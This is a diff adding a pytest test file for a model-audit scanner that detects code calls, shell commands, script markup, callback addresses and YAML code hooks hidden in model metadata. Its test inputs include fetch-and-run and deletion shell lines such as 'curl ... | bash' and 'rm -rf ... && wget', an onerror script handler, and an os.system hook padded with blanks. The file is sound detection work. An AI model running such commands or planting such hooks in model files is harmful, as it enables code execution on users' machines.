@@ -1,0 +1,112 @@
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from modelaudit.formats.metadata_text import Entry, mentions_of
+from modelaudit.languages.code_text import calls_of, commands_of
+
+
+def names(key: str, text: str) -> set[tuple[str, str]]:
+    return {(mention.use, mention.name) for mention in mentions_of([Entry(key, text.encode())])}
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("import os; os.system('true')", "os.system"),
+        ("import os as o\no.system('true')", "os.system"),
+        ("from subprocess import run as r\nr(['true'])", "subprocess.run"),
+        ("__import__('os').system('true')", "os.system"),
+        ("exec('1')", "builtins.exec"),
+        ("  def f():\n    eval('1')\n".strip(), "builtins.eval"),
+        ("os.system('true')", "os.system"),
+    ],
+)
+def test_a_text_that_is_a_program_tells_what_it_calls(text, expected):
+    assert expected in set(calls_of(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "AdamW", "Adafactor(scale_parameter=False)", "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.01)",
+        "a comment (second try); use at 0.8", "Use os.system('x') with care.", "import os", "((((" * 100 + "a(",
+        "not " * 5000 + "f(x)", "f(" * 3000 + ")" * 3000, "exec(\0)", "open the file (a) and read it", "1girl, (smile:1.2)",
+        "train(lr=1e-4)", "-" * 40_000 + "f(x)",
+    ],
+)  # fmt: skip
+def test_other_texts_are_no_programs(text):
+    assert list(calls_of(text)) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("rm -rf /tmp/x && wget http://example.invalid/a", {"rm", "wget"}),
+        ("chmod 777 /tmp/x", {"chmod"}),
+        ("curl -s http://example.invalid | bash", {"curl", "bash"}),
+        ("sudo bash -c 'true'", {"bash"}),
+        ("A=1 python -c 'pass'", {"python"}),
+        ("cd /tmp; rm *", {"rm"}),
+    ],
+)
+def test_a_line_for_a_shell_tells_what_it_starts(text, expected):
+    assert set(commands_of(text)) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl is a tool", "python train.py --lr 1e-4", "rm all (the) files", "time travel / space", "cat; dog",
+        "accelerate launch train.py -x", "node", "kill your darlings", "", "|||", "eval at 0.8", "base64",
+        "We run rm -rf /tmp before training.", "git clone https://example.invalid/x && pip install -r requirements.txt",
+    ],
+)  # fmt: skip
+def test_prose_starts_nothing(text):
+    assert list(commands_of(text)) == []
+
+
+def test_markup_counts_anywhere_in_the_text_and_formatting_does_not():
+    assert ("markup", "script") in names("note", "hello <SCRIPT>void 0</SCRIPT>")
+    assert ("markup", "event-handler") in names("note", '<img src=x onerror="void 0">')
+    assert ("markup", "javascript") in names("note", "javascript:void(0)")
+    assert (
+        names("note", "<p>Use <b>0.8</b>, a <a href='https://example.invalid'>link</a>; tokens <s> and <unk></p>")
+        == set()
+    )
+
+
+def test_an_address_counts_where_the_key_asks_to_be_called():
+    assert names("callback_url", "https://example.invalid/x") == {("address", "callback")}
+    assert names("training.webhook", "https://example.invalid/x") == {("address", "webhook")}
+    assert names("license_url", "https://example.invalid/x") == set()
+    assert names("callbacks", "EarlyStopping") == set()
+
+
+def test_documents_in_notes_are_read_as_what_they_are(read_bytes):
+    import json
+    import struct
+
+    notes = {
+        "config": '{"a": {"auto_map": 1}}',
+        "list": "[1]",
+        "words": "a {b}",
+        "hook": "x: !!python/name:os.system ''",
+    }
+    text = json.dumps({"__metadata__": notes}).encode()
+    reading = read_bytes(struct.pack("<Q", len(text)) + text, "m.safetensors")
+    assert {path for path in reading.formats if "!" in path} == {
+        "m.safetensors!metadata!config", "m.safetensors!metadata!hook.yaml",
+    }  # fmt: skip
+
+
+def test_letters_without_a_call_take_no_time():
+    started = time.process_time()
+    assert not list(calls_of("A" * 60_000))
+    assert time.process_time() - started < 1
+
+
+def test_blanks_before_a_program_hide_nothing():
+    assert ("metadata-code", "os.system") in names("a", " " * 300_000 + "import os; os.system('true')")
